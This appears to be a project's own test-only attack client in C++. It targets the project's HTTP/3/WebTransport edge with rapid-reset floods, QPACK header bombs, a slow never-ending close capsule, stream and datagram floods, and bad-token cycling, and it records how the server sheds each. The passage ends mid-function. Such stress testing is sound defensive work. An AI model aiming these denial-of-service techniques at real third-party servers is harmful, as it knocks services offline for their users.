// wtmesh_attack_quic: a hostile HTTP/3 / WebTransport client for the attack suite
// (tests/peers/edge_attacks_quic.sh, issue 14 item 5). It drives our quic::Connection directly and
// writes HTTP/3 frames, QPACK field sections, WebTransport stream headers, capsules and datagrams by
// hand, so it can send what our well-behaved client never does. Built with the tests, never installed.
//
// Every mode stops by itself (--duration seconds, or when its work is done) and prints one JSON line
// on stdout: what it sent, what the edge answered, and when the edge shed it (closed the connection,
// the session or the stream). SIGTERM/SIGINT stop it early; it still prints its summary.
//
// Modes (an agent session = CONNECT /ingress-mesh with --token-file's token, then its control stream):
//   streams-bidi / streams-uni  on one agent session, open up to --count WebTransport streams, each
//                               with its header and a stream kind, then FIN, as fast as QUIC credit allows
//   close-capsule               on an agent session's CONNECT stream: a DATA frame holding a
//                               CLOSE_WEBTRANSPORT_SESSION capsule that announces --capsule-length bytes
//                               (1 GiB), then 1 KiB every 50 ms
//   datagrams                   on an agent session: datagrams as fast as the connection takes them
//                               (unknown flows, and flow 0 with a non-JSON telemetry report)
//   register                    on an agent session: --count REGISTERs of distinct names
//   bad-tokens                  --count session requests with the tokens of --token-file (one per line,
//                               used in turn); a new connection whenever the edge closes one
//   rapid-reset                 --count public requests (GET --authority/--path): HEADERS with FIN, and
//                               RESET_STREAM right after they went out (the edge has the request)
//   rapid-reset-early           the same, reset before the first byte left (only the reset arrives)
//   qpack-big / qpack-many / qpack-literal / qpack-encoder
//                               a public request whose field section is 1 MiB / 20,000 fields / a literal
//                               announcing 2^62 bytes; or QPACK encoder-stream instructions that set a
//                               dynamic table capacity past the 0 we advertise. One connection after
//                               another until --duration (or --count connections)
#include <signal.h>

#include <algorithm>
#include <boost/asio/io_context.hpp>
#include <boost/asio/ip/udp.hpp>
#include <boost/asio/signal_set.hpp>
#include <boost/asio/steady_timer.hpp>
#include <chrono>
#include <cstdio>
#include <cstring>
#include <fstream>
#include <iostream>
#include <map>
#include <memory>
#include <optional>
#include <sstream>
#include <string>
#include <vector>

#include "common/varint.h"
#include "h3/frames.h"
#include "h3/qpack.h"
#include "h3/settings.h"
#include "quic/connection.h"
#include "quic/endpoint.h"
#include "quic/tls_context.h"
#include "wt/capsule.h"

namespace asio = boost::asio;
using namespace wtmesh;
using Clock = std::chrono::steady_clock;

namespace {

struct Options {
  std::string mode;
  uint16_t port = 0;
  std::string address = "127.0.0.1";
  std::string sni = "localhost";
  std::string authority;  // default SNI:PORT
  std::string path = "/hello";
  std::string ca;
  std::string token_file;
  double duration = 20;
  uint64_t count = 100000;
  uint64_t capsule_length = uint64_t{1} << 30;
  std::string domain = "localhost";
  std::vector<std::string> local;  // source addresses, one endpoint each, used in turn per connection
  int per_connection = 3;          // bad-tokens: session requests sent at once on each connection
};

double ms_since(Clock::time_point t) {
  return std::chrono::duration<double, std::milli>(Clock::now() - t).count();
}

std::string json_escape(const std::string& s) {
  std::string out;
  for (char c : s) {
    if (c == '"' || c == '\\') {
      out += '\\';
      out += c;
    } else if (static_cast<unsigned char>(c) < 0x20) {
      char buf[8];
      std::snprintf(buf, sizeof buf, "\\u%04x", c);
      out += buf;
    } else {
      out += c;
    }
  }
  return out;
}

std::vector<uint8_t> frame(uint64_t type, std::span<const uint8_t> payload) {
  std::vector<uint8_t> out;
  append_varint(out, type);
  append_varint(out, payload.size());
  append_bytes(out, payload);
  return out;
}

// QPACK string literal with an N-bit length prefix (RFC 7541 §5.1 integer), no Huffman.
void append_prefixed_int(std::vector<uint8_t>& out, uint8_t first, int prefix_bits, uint64_t v) {
  const uint64_t max = (uint64_t{1} << prefix_bits) - 1;
  if (v < max) {
    out.push_back(static_cast<uint8_t>(first | v));
    return;
  }
  out.push_back(static_cast<uint8_t>(first | max));
  v -= max;
  while (v >= 128) {
    out.push_back(static_cast<uint8_t>((v & 0x7f) | 0x80));
    v >>= 7;
  }
  out.push_back(static_cast<uint8_t>(v));
}
// Literal field line with literal name (RFC 9204 §4.5.6): 001N H=0 name-len(3) name, H=0 value-len(7).
void append_literal_field(std::vector<uint8_t>& out, std::string_view name, std::string_view value) {
  append_prefixed_int(out, 0x20, 3, name.size());
  out.insert(out.end(), name.begin(), name.end());
  append_prefixed_int(out, 0x00, 7, value.size());
  out.insert(out.end(), value.begin(), value.end());
}

// One attacker connection: a minimal HTTP/3 client written by hand over quic::Connection.
class RawH3 final : public quic::TransportHandler {
 public:
  struct StreamState {
    std::vector<uint8_t> in;  // response bytes kept until the first HEADERS is decoded (capped)
    int status = 0;
    bool reset_by_peer = false;
    bool stopped_by_peer = false;
    bool closed = false;
    uint64_t peer_error = 0;
    std::vector<uint8_t> after;  // bytes after the response head (agent control frames), capped
  };

  explicit RawH3(quic::Connection& conn) : conn_(conn) { conn_.set_handler(this); }

  quic::Connection& conn() { return conn_; }
  bool handshake_done = false;
  bool closed = false;
  uint64_t close_code = 0;
  bool close_is_app = false;
  std::string close_reason;
  Clock::time_point closed_at;
  std::map<quic::StreamId, StreamState> streams;
  uint64_t peer_resets = 0, peer_stop_sendings = 0, streams_closed = 0, datagrams_in = 0;
  std::function<void()> on_change;
  std::function<void(quic::StreamId, std::span<const uint8_t>)> on_after_head;

  // Our control stream with SETTINGS offering WebTransport and H3 datagrams. `encoder`: also open
  // a QPACK encoder stream and return its id.
  void send_settings() {
    auto ctl = conn_.open_uni_stream();
    if (!ctl) return;
    std::vector<uint8_t> payload;
    for (auto [id, v] :
         std::initializer_list<std::pair<uint64_t, uint64_t>>{{h3::kSettingEnableConnectProtocol, 1},
                                                              {h3::kSettingH3Datagram, 1},
                                                              {h3::kSettingWtEnableDraft02, 1},
                                                              {h3::kSettingWtMaxSessionsDraft07, 1}}) {
      append_varint(payload, id);
      append_varint(payload, v);
    }
    std::vector<uint8_t> bytes;
    append_varint(bytes, h3::kStreamControl);
    const auto f = frame(h3::kFrameSettings, payload);
    append_bytes(bytes, f);
    conn_.write(*ctl, bytes, false);
  }

  // A request stream with one HEADERS frame whose payload is `section`. nullopt: no credit now.
  std::optional<quic::StreamId> request(std::span<const uint8_t> section, bool fin) {
    auto id = conn_.open_bidi_stream();
    if (!id) return std::nullopt;
    const auto f = frame(h3::kFrameHeaders, section);
    streams[*id];
    write_all(*id, f, fin);
    return id;
  }
  // Writes what the stream takes; the rest is dropped (attack streams write little).
  size_t write_all(quic::StreamId id, std::span<const uint8_t> data, bool fin) {
    return conn_.write(id, data, fin);
  }

  std::vector<uint8_t> encode(quic::StreamId id, const h3::HeaderList& h) {
    std::vector<uint8_t> out;
    encoder_.encode(id, h, out);
    return out;
  }

  // --- TransportHandler
  void on_handshake_completed() override {
    handshake_done = true;
    changed();
  }
  void on_stream_data(quic::StreamId id, std::span<const uint8_t> data, bool fin) override {
    conn_.consume(id, data.size());
    if (!quic::is_bidi(id)) return;  // the edge's control and QPACK streams: ignored
    auto& s = streams[id];
    if (s.status == 0) {
      if (s.in.size() < 256 * 1024) s.in.insert(s.in.end(), data.begin(), data.end());
      parse_head(id, s);
    } else if (on_after_head) {
      on_after_head(id, data);
    }
    (void)fin;
    changed();
  }
  std::function<void(quic::StreamId)> on_refused;
  void on_stream_reset(quic::StreamId id, uint64_t app_error) override {
    if (on_refused) on_refused(id);
    auto& s = streams[id];
    s.reset_by_peer = true;
    s.peer_error = app_error;
    ++peer_resets;
    changed();
  }
  void on_stop_sending(quic::StreamId id, uint64_t app_error) override {
    if (on_refused) on_refused(id);
    auto& s = streams[id];
    if (!s.stopped_by_peer) ++peer_stop_sendings;
    s.stopped_by_peer = true;
    if (s.peer_error == 0) s.peer_error = app_error;
    changed();
  }
  void on_stream_closed(quic::StreamId id) override {
    auto it = streams.find(id);
    if (it != streams.end()) {
      if (keep_closed_) {
        it->second.closed = true;
      } else {
        streams.erase(it);
      }
    }
    ++streams_closed;
    changed();
  }
  void on_stream_writable(quic::StreamId) override {}
  void on_streams_available() override { changed(); }
  void on_datagram(std::span<const uint8_t>) override { ++datagrams_in; }
  void on_connection_closed(uint64_t error_code, bool is_application, std::string_view reason) override {
    if (closed) return;
    closed = true;
    closed_at = Clock::now();
    close_code = error_code;
    close_is_app = is_application;
    close_reason = std::string(reason);
    changed();
  }
  void keep_closed_streams(bool keep) { keep_closed_ = keep; }

 private:
  void changed() {
    if (on_change) on_change();
  }
  void parse_head(quic::StreamId id, StreamState& s) {
    size_t off = 0;
    while (off < s.in.size()) {
      std::span<const uint8_t> rest(s.in.data() + off, s.in.size() - off);
      auto t = read_varint(rest);
      if (!t) return;
      auto l = read_varint(rest.subspan(t->length));
      if (!l) return;
      const size_t hdr = t->length + l->length;
      if (rest.size() - hdr < l->value) return;
      if (t->value == h3::kFrameHeaders) {
        auto d = decoder_.decode(id, rest.subspan(hdr, l->value));
        s.status = -1;
        if (d.status == h3::DecodedHeaders::Status::kOk) {
          if (const auto* st = h3::find_header(d.headers, ":status")) s.status = std::atoi(st->c_str());
        }
        const auto tail = rest.subspan(hdr + l->value);
        if (!tail.empty() && on_after_head) on_after_head(id, tail);
        s.in.clear();
        s.in.shrink_to_fit();
        return;
      }
      off += hdr + l->value;
    }
  }

  quic::Connection& conn_;
  h3::QpackEncoder encoder_;
  h3::QpackDecoder decoder_{1 << 20};
  bool keep_closed_ = false;
};

// The attack run: owns the endpoint and the current connection; modes are steps on a timer.
class Attack {
 public:
  Attack(asio::io_context& io, Options o) : io_(io), opt_(std::move(o)), timer_(io) {
    tls_ = std::make_unique<quic::TlsClientContext>(quic::TlsClientContext::with_ca_file(opt_.ca));
    if (opt_.authority.empty()) opt_.authority = opt_.sni + ":" + std::to_string(opt_.port);
    if (!opt_.token_file.empty()) {
      std::ifstream f(opt_.token_file);
      std::string line;
      while (std::getline(f, line))
        if (!line.empty()) tokens_.push_back(line);
    }
    limits_.idle_timeout = std::chrono::milliseconds(30000);
    limits_.max_streams_bidi = 16;
    limits_.max_streams_uni = 16;
  }

  void start() {
    start_ = Clock::now();
    deadline_ = start_ + std::chrono::milliseconds(static_cast<int64_t>(opt_.duration * 1000));
    if (opt_.local.empty()) opt_.local.push_back(opt_.address == "::1" ? "::" : "0.0.0.0");
    for (const std::string& a : opt_.local) {
      endpoints_.push_back(
          std::make_unique<quic::Endpoint>(io_, asio::ip::udp::endpoint(asio::ip::make_address(a), 0)));
      endpoints_.back()->set_on_removed([this](quic::Connection& c) {
        if (h3_ && &h3_->conn() == &c) {
          if (!h3_->closed) h3_->on_connection_closed(0, false, c.close_reason());
          retire();
        }
      });
    }
    if (!connect()) {
      stop("connect failed: " + error_);
      return;
    }
    tick();
  }

  void stop(std::string why) {
    if (stopped_) return;
    stopped_ = true;
    stop_reason_ = std::move(why);
    timer_.cancel();
    print_summary();
    if (h3_ && !h3_->closed) h3_->conn().close(0x100, "attacker done");
    // Give the endpoint a moment to send the close, then stop.
    auto t = std::make_shared<asio::steady_timer>(io_, std::chrono::milliseconds(100));
    t->async_wait([this, t](auto) {
      for (auto& e : endpoints_) e->shutdown(0x100, "attacker done");
      io_.stop();
    });
  }

 private:
  bool connect() {
    const asio::ip::udp::endpoint remote(asio::ip::make_address(opt_.address), opt_.port);
    auto* c =
        endpoints_[connections_ % endpoints_.size()]->connect(remote, opt_.sni, *tls_, limits_, &error_);
    if (!c) return false;
    ++connections_;
    h3_ = std::make_unique<RawH3>(*c);
    h3_->on_change = [this] { post_step(); };
    conn_started_ = Clock::now();
    session_id_.reset();
    session_status_ = 0;
    control_.reset();
    step_state_ = 0;
    return true;
  }

  void post_step() {
    if (step_posted_) return;
    step_posted_ = true;
    asio::post(io_, [this] {
      step_posted_ = false;
      if (!stopped_) step();
    });
  }

  void tick() {
    if (stopped_) return;
    if (Clock::now() >= deadline_) {
      stop("duration");
      return;
    }
    step();
    timer_.expires_after(std::chrono::milliseconds(10));
    timer_.async_wait([this](const boost::system::error_code& ec) {
      if (!ec) tick();
    });
  }

  // --- the agent session every agent-side mode starts with
  // True once the session is up (control stream open); drives the CONNECT until then.
  bool agent_session() {
    if (!h3_ || h3_->closed || !h3_->handshake_done) return false;
    if (!session_id_) {
      h3_->send_settings();
      h3::HeaderList h{{":method", "CONNECT"},
                       {":scheme", "https"},
                       {":authority", opt_.authority},
                       {":path", "/ingress-mesh"},
                       {":protocol", "webtransport"},
                       {"sec-webtransport-http3-draft02", "1"},
                       {"authorization", "Bearer " + (tokens_.empty() ? std::string() : tokens_[0])},
                       {"wtmesh-protocol", "1"},
                       {"user-agent", "wtmesh-attack-quic"}};
      auto id = h3_->conn().open_bidi_stream();
      if (!id) return false;
      const auto f = frame(h3::kFrameHeaders, h3_->encode(*id, h));
      h3_->streams[*id];
      h3_->write_all(*id, f, false);
      session_id_ = id;
      session_sent_ = Clock::now();
      return false;
    }
    auto it = h3_->streams.find(*session_id_);
    if (it == h3_->streams.end() || it->second.status == 0) return false;
    session_status_ = it->second.status;
    if (session_status_ != 200) {
      stop("session refused: " + std::to_string(session_status_));
      return false;
    }
    if (!control_) {
      session_ready_ms_ = ms_since(start_);
      auto c = h3_->conn().open_bidi_stream();
      if (!c) return false;
      std::vector<uint8_t> b;
      append_varint(b, h3::kWtBidiSignal);
      append_varint(b, static_cast<uint64_t>(*session_id_));
      append_varint(b, 0x00);       // kind: control
      h3_->streams[*c].status = 1;  // no HTTP head on WT streams
      h3_->write_all(*c, b, false);
      control_ = c;
      h3_->on_after_head = [this](quic::StreamId id, std::span<const uint8_t> d) { on_agent_bytes(id, d); };
    }
    return true;
  }

  void on_agent_bytes(quic::StreamId id, std::span<const uint8_t> d) {
    if (control_ && id == *control_) {
      if (control_in_.size() < (1u << 20)) control_in_.insert(control_in_.end(), d.begin(), d.end());
      parse_control();
    }
  }
  void parse_control() {
    size_t off = 0;
    while (true) {
      std::span<const uint8_t> rest(control_in_.data() + off, control_in_.size() - off);
      auto t = read_varint(rest);
      if (!t) break;
      auto l = read_varint(rest.subspan(t->length));
      if (!l) break;
      const size_t hdr = t->length + l->length;
      if (rest.size() - hdr < l->value) break;
      const std::string payload(reinterpret_cast<const char*>(rest.data() + hdr), l->value);
      if (t->value == 0x02) {
        ++registered_;
      } else if (t->value == 0x03) {
        auto p = payload.find("\"code\":\"");
        std::string code =
            p == std::string::npos ? "?" : payload.substr(p + 8, payload.find('"', p + 8) - p - 8);
        ++refused_[code];
        if (!first_refused_ms_) first_refused_ms_ = ms_since(start_);
      } else if (t->value == 0x05) {  // PING: answer PONG with its seq
        auto p = payload.find("\"seq\":");
        const std::string seq =
            p == std::string::npos ? "0" : payload.substr(p + 6, payload.find_first_of(",}", p) - p - 6);
        const std::string pong = "{\"seq\":" + seq + "}";
        std::vector<uint8_t> f;
        append_varint(f, 0x06);
        append_varint(f, pong.size());
        f.insert(f.end(), pong.begin(), pong.end());
        if (control_) h3_->write_all(*control_, f, false);
      }
      off += hdr + l->value;
    }
    control_in_.erase(control_in_.begin(), control_in_.begin() + static_cast<std::ptrdiff_t>(off));
  }

  void step() {
    if (stopped_) return;
    const std::string& m = opt_.mode;
    if (m == "streams-bidi" || m == "streams-uni") return step_streams(m == "streams-bidi");
    if (m == "close-capsule") return step_capsule();
    if (m == "datagrams") return step_datagrams();
    if (m == "register") return step_register();
    if (m == "bad-tokens") return step_bad_tokens();
    if (m == "rapid-reset" || m == "rapid-reset-early") return step_rapid_reset();
    if (m.rfind("qpack-", 0) == 0) return step_qpack();
    stop("unknown mode " + m);
  }

  bool agent_conn_gone() {
    if (h3_ && !h3_->closed) return false;
    stop("connection closed by the edge");
    return true;
  }

  void step_streams(bool bidi) {
    if (agent_conn_gone() || !agent_session()) return;
    if (!h3_->on_refused) {
      h3_->on_refused = [this](quic::StreamId id) {
        auto it = sampled_.find(id);
        if (it == sampled_.end()) return;
        shed_times_.push_back(std::chrono::duration<double, std::milli>(Clock::now() - it->second).count());
        sampled_.erase(it);
      };
    }
    // Our stream credit is the edge's MAX_STREAMS: open until it runs out; on_streams_available
    // (posted) brings us back.
    while (opened_ < opt_.count) {
      auto id = bidi ? h3_->conn().open_bidi_stream() : h3_->conn().open_uni_stream();
      if (!id) {
        ++credit_waits_;
        break;
      }
      std::vector<uint8_t> b;
      append_varint(b, bidi ? h3::kWtBidiSignal : h3::kStreamWebTransport);
      append_varint(b, static_cast<uint64_t>(*session_id_));
      // A bidi stream names a kind: alternate one the agent may open (connect-stream, cut short by the
      // FIN) with one only the edge may open (http-request: refused with code 2).
      if (bidi) append_varint(b, (opened_ & 1) ? 0x01 : 0x05);
      b.push_back('x');
      if (bidi) h3_->streams[*id].status = 1;
      h3_->write_all(*id, b, true);
      if ((opened_ & 63) == 0) sampled_[*id] = Clock::now();  // refusal latency, one stream in 64
      ++opened_;
      if (opened_ == opt_.count) all_opened_ms_ = ms_since(start_);
    }
    if (opened_ >= opt_.count && h3_->streams_closed >= opened_)
      return stop("every stream opened and closed");
    if (opened_ >= opt_.count && !drain_started_) {
      drain_started_ = true;
      drain_since_ = Clock::now();
    }
    if (drain_started_ && ms_since(drain_since_) > 3000) stop("all streams opened (3 s drain)");
  }

  void step_capsule() {
    if (agent_conn_gone() || !agent_session()) return;
    auto it = h3_->streams.find(*session_id_);
    const bool stream_gone =
        it == h3_->streams.end() || it->second.reset_by_peer || it->second.stopped_by_peer;
    if (stream_gone) {
      if (!shed_ms_) {
        shed_ms_ = ms_since(capsule_started_);
        shed_how_ = it == h3_->streams.end()   ? "session stream closed"
                    : it->second.reset_by_peer ? "session stream reset"
                                               : "STOP_SENDING on the session stream";
        if (it != h3_->streams.end()) shed_code_ = it->second.peer_error;
      }
      stop("shed");
      return;
    }
    if (step_state_ == 0) {
      // Over HTTP/3 capsules travel in the CONNECT stream's DATA frames (RFC 9297 §3.3): one DATA
      // frame announcing capsule_length + 8 bytes, holding a close capsule announcing capsule_length.
      std::vector<uint8_t> b;
      append_varint(b, h3::kFrameData);
      append_varint(b, opt_.capsule_length + 8);
      append_varint(b, wt::kCapsuleCloseSession);
      append_varint(b, opt_.capsule_length);
      b.insert(b.end(), {0, 0, 0, 7});  // the code; then the "reason" never ends
      sent_bytes_ += h3_->write_all(*session_id_, b, false);
      capsule_started_ = Clock::now();
      last_trickle_ = capsule_started_;
      step_state_ = 1;
    } else if (ms_since(last_trickle_) >= 50) {
      std::vector<uint8_t> b(1024, 'r');
      sent_bytes_ += h3_->write_all(*session_id_, b, false);
      last_trickle_ = Clock::now();
    }
  }

  void step_datagrams() {
    if (agent_conn_gone() || !agent_session()) return;
    const size_t max = h3_->conn().max_datagram_payload();
    if (max == 0) {
      stop("datagrams not enabled by the edge");
      return;
    }
    for (int i = 0; i < 64; ++i) {
      std::vector<uint8_t> b;
      append_varint(b, static_cast<uint64_t>(*session_id_) / 4);
      const uint64_t k = datagrams_tried_++;
      // Flow 0 with a report that is not JSON, the edge's own relay flows, UDP flows never opened.
      const uint64_t flow = (k % 4 == 0) ? 0 : (k % 4 == 1) ? 1 + (k % 1000) : (uint64_t{1} << 30) + k;
      append_varint(b, flow);
      b.resize(std::min<size_t>(max, 1000), static_cast<uint8_t>(k));
      if (h3_->conn().send_datagram(b)) {
        ++datagrams_sent_;
        sent_bytes_ += b.size();
      } else {
        ++datagrams_refused_locally_;
        break;
      }
    }
  }

  void step_register() {
    if (agent_conn_gone() || !agent_session()) return;
    // The control stream's send buffer takes a bounded amount: send while it has room.
    while (registers_sent_ < opt_.count && h3_->conn().send_capacity(*control_) > 1024) {
      const std::string name = "n" + std::to_string(registers_sent_) + "." + opt_.domain;
      const std::string j = "{\"id\":" + std::to_string(registers_sent_ + 1) +
                            ",\"type\":\"http\",\"hostname\":\"" + name + "\",\"options\":{}}";
      std::vector<uint8_t> f;
      append_varint(f, 0x01);
      append_varint(f, j.size());
      f.insert(f.end(), j.begin(), j.end());
      h3_->write_all(*control_, f, false);
      ++registers_sent_;
    }
    if (registers_sent_ >= opt_.count && registered_ + total_refused() >= opt_.count) {
      answered_ms_ = ms_since(start_);
      stop("every REGISTER answered");
    }
  }
  uint64_t total_refused() const {
    uint64_t n = 0;
    for (auto& [k, v] : refused_) n += v;
    return n;
  }

  // bad-tokens: answers to the batch of session requests on the current connection.
  void scan_batch() {
    for (auto it = batch_.begin(); it != batch_.end();) {
      auto st = h3_->streams.find(*it);
      const bool answered = st == h3_->streams.end() || st->second.status != 0 || st->second.reset_by_peer;
      if (!answered) {
        ++it;
        continue;
      }
      ++statuses_[st == h3_->streams.end() ? -2 : st->second.status != 0 ? st->second.status : -3];
      it = batch_.erase(it);
    }
  }

  void step_bad_tokens() {
    if (h3_) scan_batch();
    if (h3_ && h3_->closed) retire();
    if (!h3_) {
      for (auto id : batch_) {
        (void)id;
        ++statuses_[-4];  // the connection closed before the answer
      }
      batch_.clear();
      if (requests_ >= opt_.count) return stop("every token tried");
      if (!connect()) return stop("connect failed: " + error_);
      return;
    }
    if (!h3_->handshake_done) return;
    if (step_state_ == 0) {
      h3_->send_settings();
      step_state_ = 1;
      ++handshaken_;
      // per_connection session requests at once: the edge closes the connection after its third refusal.
      for (int i = 0; i < opt_.per_connection && requests_ < opt_.count; ++i) {
        const std::string& tok = tokens_.empty() ? std::string("x") : tokens_[requests_ % tokens_.size()];
        h3::HeaderList h{{":method", "CONNECT"},
                         {":scheme", "https"},
                         {":authority", opt_.authority},
                         {":path", "/ingress-mesh"},
                         {":protocol", "webtransport"},
                         {"sec-webtransport-http3-draft02", "1"},
                         {"authorization", "Bearer " + tok},
                         {"wtmesh-protocol", "1"}};
        auto id = h3_->conn().open_bidi_stream();
        if (!id) break;
        const auto f = frame(h3::kFrameHeaders, h3_->encode(*id, h));
        h3_->streams[*id];
        h3_->write_all(*id, f, false);
        batch_.push_back(*id);
        ++requests_;
      }
      return;
    }
    if (batch_.empty() && ms_since(conn_started_) > 2000) h3_->conn().close(0x100, "next");
  }

  void step_rapid_reset() {
    if (!h3_ || h3_->closed) return stop("connection closed by the edge");
    if (!h3_->handshake_done) return;
    if (step_state_ == 0) {
      h3_->send_settings();
      step_state_ = 1;
    }
    // rapid-reset: the HEADERS (with FIN) go out, and the streams are reset at the next step, after
    // the flush, so the edge has the requests; rapid-reset-early: reset before the first flush, so
    // only RESET_STREAM reaches the edge.
    const bool early = opt_.mode == "rapid-reset-early";
    for (quic::StreamId id : to_reset_) h3_->conn().reset_stream(id, 0x10c);  // H3_REQUEST_CANCELLED
    to_reset_.clear();
    while (requests_ < opt_.count && to_reset_.size() < 256) {
      auto id = h3_->conn().open_bidi_stream();
      if (!id) {
        ++credit_waits_;
        break;
      }
      h3::HeaderList h{
          {":method", "GET"}, {":scheme", "https"}, {":authority", opt_.authority}, {":path", opt_.path}};
      const auto f = frame(h3::kFrameHeaders, h3_->encode(*id, h));
      h3_->write_all(*id, f, true);
      if (early) {
        h3_->conn().reset_stream(*id, 0x10c);
      } else {
        to_reset_.push_back(*id);
      }
      ++requests_;
      if (requests_ == opt_.count) all_opened_ms_ = ms_since(start_);
    }
    if (requests_ >= opt_.count) {
      if (!drain_started_) {
        drain_started_ = true;
        drain_since_ = Clock::now();
      }
      if (ms_since(drain_since_) > 2000) stop("every request opened and reset");
    }
  }

  void step_qpack() {
    if (!h3_) {
      if (connections_ >= opt_.count) return stop("every connection tried");
      if (!connect()) return stop("connect failed: " + error_);
      return;
    }
    if (h3_->closed) {
      retire();
      return;
    }
    if (!h3_->handshake_done) return;
    if (step_state_ == 0) {
      h3_->send_settings();
      const std::string& m = opt_.mode;
      std::vector<uint8_t> section{0x00, 0x00};  // Required Insert Count 0, Delta Base 0
      auto pseudo = [&] {
        append_literal_field(section, ":method", "GET");
        append_literal_field(section, ":scheme", "https");
        append_literal_field(section, ":authority", opt_.authority);
        append_literal_field(section, ":path", opt_.path);
      };
      if (m == "qpack-big") {
        pseudo();
        append_literal_field(section, "x-bomb", std::string(1 << 20, 'b'));
      } else if (m == "qpack-many") {
        pseudo();
        for (int i = 0; i < 20000; ++i) append_literal_field(section, "x-f", "v");
      } else if (m == "qpack-literal") {
        pseudo();
        append_prefixed_int(section, 0x20, 3, 6);
        section.insert(section.end(), {'x', '-', 'b', 'o', 'm', 'b'});
        append_prefixed_int(section, 0x00, 7, (uint64_t{1} << 62) - 1);  // a value of 2^62 - 1 bytes
        section.insert(section.end(), 1000, 'v');
      } else if (m == "qpack-encoder") {
        auto enc = h3_->conn().open_uni_stream();
        if (enc) {
          std::vector<uint8_t> b;
          append_varint(b, h3::kStreamQpackEncoder);
          append_prefixed_int(b, 0x20, 5, uint64_t{1} << 30);  // Set Dynamic Table Capacity 1 GiB
          for (int i = 0; i < 1000; ++i) {                     // Insert With Literal Name, 1 KiB each
            append_prefixed_int(b, 0x40, 5, 5);
            b.insert(b.end(), {'x', '-', 'i', 'n', 's'});
            append_prefixed_int(b, 0x00, 7, 1024);
            b.insert(b.end(), 1024, 'i');
          }
          sent_bytes_ += h3_->write_all(*enc, b, false);
        }
        pseudo();
      } else {
        return stop("unknown mode " + m);
      }
      const auto f = frame(h3::kFrameHeaders, section);
      auto id = h3_->conn().open_bidi_stream();
      if (id) {
        h3_->streams[*id];
        h3_->keep_closed_streams(true);
        const size_t took = h3_->write_all(*id, f, true);
        sent_bytes_ += took;
        request_stream_ = id;
        // A section larger than the stream's send buffer: the rest is written as space frees.
        pending_.assign(f.begin() + static_cast<std::ptrdiff_t>(took), f.end());
      }
      request_sent_ = Clock::now();
      step_state_ = 1;
      return;
    }
    if (request_stream_ && !pending_.empty()) {
      const size_t took = h3_->write_all(*request_stream_, pending_, true);
      sent_bytes_ += took;
      pending_.erase(pending_.begin(), pending_.begin() + static_cast<std::ptrdiff_t>(took));
    }
    // Shed = the edge answered the request with an error, reset or stopped the stream, or closed the
    // connection; anything that lasts 5 s is not shed.
    if (request_stream_) {
      auto& s = h3_->streams[*request_stream_];
      if (s.status != 0 || s.reset_by_peer || s.stopped_by_peer) {
        record_shed(s.status != 0     ? "status " + std::to_string(s.status)
                    : s.reset_by_peer ? "stream reset 0x" + hex(s.peer_error)
                                      : "STOP_SENDING 0x" + hex(s.peer_error));
        h3_->conn().close(0x100, "next");
        return;
      }
    }
    if (ms_since(request_sent_) > 5000) {
      record_shed("not shed within 5 s");
      ++not_shed_;
      h3_->conn().close(0x100, "next");
    }
  }

  static std::string hex(uint64_t v) {
    char b[32];
    std::snprintf(b, sizeof b, "%llx", static_cast<unsigned long long>(v));
    return b;
  }
  void record_shed(const std::string& how) {
    if (shed_recorded_) return;
    shed_recorded_ = true;
    ++outcomes_[how];
    shed_times_.push_back(ms_since(request_sent_));
  }

  // The current connection was closed: record it and set it aside (its RawH3 outlives the Connection,
  // whose handler it is, until the end), so the next one can start before the closing period ends.
  void retire() {
    if (!h3_) return;
    finished_conn(*h3_);
    h3_->on_change = nullptr;
    h3_->on_after_head = nullptr;
    conn_owner_.push_back(std::move(h3_));
  }

  void finished_conn(RawH3& c) {
    if (!closes_.count(describe_close(c)) && closes_.size() >= 16) {
      ++closes_["other"];
    } else {
      ++closes_[describe_close(c)];
    }
    if (!conn_shed_ms_) conn_shed_ms_ = ms_since(conn_started_);
    if (opt_.mode.rfind("qpack-", 0) == 0) {
      record_shed("connection closed: " + describe_close(c));
      shed_recorded_ = false;
      request_stream_.reset();
      pending_.clear();
    }
    post_step();
  }
  std::string describe_close(const RawH3& c) const {
    return std::string(c.close_is_app ? "app 0x" : "transport 0x") + hex(c.close_code) + " " + c.close_reason;
  }

  void print_summary() {
    std::ostringstream o;
    o << "{\"mode\":\"" << opt_.mode << "\",\"stop\":\"" << json_escape(stop_reason_) << "\""
      << ",\"elapsedMs\":" << static_cast<int64_t>(ms_since(start_)) << ",\"connections\":" << connections_;
    if (session_status_)
      o << ",\"sessionStatus\":" << session_status_ << ",\"sessionReadyMs\":" << session_ready_ms_;
    RawH3* c = h3_ ? h3_.get() : (conn_owner_.empty() ? nullptr : conn_owner_.back().get());
    if (c) {
      o << ",\"connClosedByEdge\":" << (c->closed && c->close_reason != "attacker done" ? "true" : "false")
        << ",\"close\":\"" << json_escape(c->closed ? describe_close(*c) : "") << "\""
        << ",\"peerResets\":" << c->peer_resets << ",\"peerStopSendings\":" << c->peer_stop_sendings
        << ",\"streamsClosed\":" << c->streams_closed << ",\"liveStreams\":" << c->streams.size();
      if (c->closed)
        o << ",\"connLifeMs\":"
          << static_cast<int64_t>(
                 std::chrono::duration<double, std::milli>(c->closed_at - conn_started_).count());
    }
    o << ",\"handshaken\":" << handshaken_ << ",\"opened\":" << opened_
      << ",\"creditWaits\":" << credit_waits_;
    if (all_opened_ms_) o << ",\"allOpenedMs\":" << static_cast<int64_t>(*all_opened_ms_);
    o << ",\"sentBytes\":" << sent_bytes_;
    if (shed_ms_)
      o << ",\"shedMs\":" << static_cast<int64_t>(*shed_ms_) << ",\"shedHow\":\"" << shed_how_
        << "\",\"shedCode\":" << shed_code_;
    o << ",\"datagramsSent\":" << datagrams_sent_
      << ",\"datagramsRefusedLocally\":" << datagrams_refused_locally_;
    o << ",\"registersSent\":" << registers_sent_ << ",\"registered\":" << registered_ << ",\"refused\":{";
    bool first = true;
    for (auto& [k, v] : refused_) {
      o << (first ? "" : ",") << "\"" << json_escape(k) << "\":" << v;
      first = false;
    }
    o << "}";
    if (first_refused_ms_) o << ",\"firstRefusedMs\":" << static_cast<int64_t>(*first_refused_ms_);
    if (answered_ms_) o << ",\"answeredMs\":" << static_cast<int64_t>(*answered_ms_);
    o << ",\"requests\":" << requests_ << ",\"statuses\":{";
    first = true;
    for (auto& [k, v] : statuses_) {
      o << (first ? "" : ",") << "\"" << k << "\":" << v;
      first = false;
    }
    o << "},\"closes\":{";
    first = true;
    for (auto& [k, v] : closes_) {
      o << (first ? "" : ",") << "\"" << json_escape(k) << "\":" << v;
      first = false;
    }
    o << "},\"outcomes\":{";
    first = true;
